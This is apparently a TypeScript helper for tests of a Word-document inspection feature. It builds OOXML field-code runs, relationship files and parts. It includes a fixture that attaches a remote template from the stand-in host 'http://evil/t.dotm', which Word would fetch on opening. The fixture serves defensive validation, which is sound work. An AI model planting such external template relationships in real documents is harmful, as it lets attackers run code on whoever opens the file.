import { judgeWord } from '../../platform/files/inspection/judgeWord.ts'
import { relation, relations, type WordPart } from './exampleFiles.ts'

/** What a document is refused with; empty when it passes. */
export const wordRefusal = (bytes: Buffer): Promise<string> =>
  judgeWord(bytes).then(
    () => '',
    (error: Error) => error.message,
  )

export const WORD = 'application/vnd.openxmlformats-officedocument.wordprocessingml'
export const OFFICE = 'application/vnd.openxmlformats-officedocument'
export const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
export const separate = '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
export const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
export const code = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
export const field = (text: string) => `${begin}${code(text)}${separate}<w:r><w:t>1</w:t></w:r>${end}`

export const part = (name: string, content: string | Buffer, type: string): WordPart => ({ name, content, type })
export const markup = (name: string, kind: string, content = '<w:x xmlns:w="w"/>') =>
  part(name, content, `${WORD}.${kind}+xml`)
export const related = (name: string, inside: string): WordPart => ({
  name: `word/_rels/${name}.rels`,
  content: relations(inside),
})
export const utf16 = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])

/** A template that Word would fetch from elsewhere when the document is opened. */
export const TEMPLATE = relation('attachedTemplate', 'http://evil/t.dotm', 'TargetMode="External"')
